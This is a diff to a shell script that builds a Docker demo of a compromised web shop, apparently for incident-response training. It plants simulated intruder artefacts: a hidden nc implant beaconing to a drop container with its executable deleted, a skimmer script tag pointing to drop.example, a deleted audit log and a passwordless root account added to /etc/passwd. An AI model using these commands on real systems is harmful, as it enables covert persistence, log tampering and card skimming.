@@ -47,24 +47,27 @@ docker commit --message "the shop itself" --change 'CMD ["httpd","-f","-v","-p",
 docker rm "$app" >/dev/null
 
 docker network create --label "$label" cir-demo-net >/dev/null
-docker run -d --label "$label" --name cir-demo-drop --network cir-demo-net cir-demo/base:12 sh -c 'while :; do nc -l -p 4444 >/dev/null; done' >/dev/null
+docker run -d --label "$label" --name cir-demo-drop --network cir-demo-net cir-demo/base:12 nc -ll -p 4444 -e cat >/dev/null
 docker run -d --label "$label" --name cir-demo-shop --network cir-demo-net --cap-add SYS_PTRACE \
   -e DB_PASSWORD=hunter2 -e AWS_SECRET_ACCESS_KEY=wJalrEXAMPLEKEY cir-demo/shop:1.4 >/dev/null
 # The intruder: an implant that deletes its own executable and keeps a line open, a changed page, a removed log, a new account.
-docker exec -d cir-demo-shop sh -c '
-  mkdir -p /tmp/.x11; cp /bin/busybox /tmp/.x11/nc
-  (while :; do echo "id=shop-1 uptime=$(cut -d. -f1 /proc/uptime)"; sleep 2; done) | /tmp/.x11/nc cir-demo-drop 4444 &
-  sleep 1; rm /tmp/.x11/nc; wait'
+docker exec cir-demo-shop sh -c 'mkdir -p /tmp/.x11; cp /bin/busybox /tmp/.x11/nc'
+docker exec -d cir-demo-shop sh -c 'while :; do echo id=shop-1; sleep 2; done | /tmp/.x11/nc cir-demo-drop 4444'
 docker exec cir-demo-shop sh -c '
   echo "<script src=//drop.example/skim.js></script>" >>/srv/shop/index.html
   rm /srv/shop/audit.log
   echo "svc::0:0::/root:/bin/sh" >>/etc/passwd
   printf "#!/bin/sh\nexec nc cir-demo-drop 4444\n" >/tmp/.x11/run; chmod 755 /tmp/.x11/run
-  wget -q -O /dev/null http://127.0.0.1:8080/'
-implant_runs() { # its executable is deleted, it is still running
-  local links
-  links=$(docker exec cir-demo-shop sh -c 'for e in /proc/[0-9]*/exe; do readlink $e; done; true')
-  [[ $links == *"/tmp/.x11/nc (deleted)"* ]]
+  wget -q -O /dev/null http://127.0.0.1:8080/
+  rm /tmp/.x11/nc'
+implant_runs() { # seen from the host: its executable is deleted, its line to the second container is open
+  local exe
+  for exe in /proc/[0-9]*/exe; do
+    if [ "$(readlink "$exe" 2>/dev/null)" = "/tmp/.x11/nc (deleted)" ]; then
+      grep -q ':115C 01 ' "${exe%exe}net/tcp" 2>/dev/null && return 0 # 4444, ESTABLISHED
+    fi
+  done
+  return 1
 }
 tries=0
 until implant_runs; do
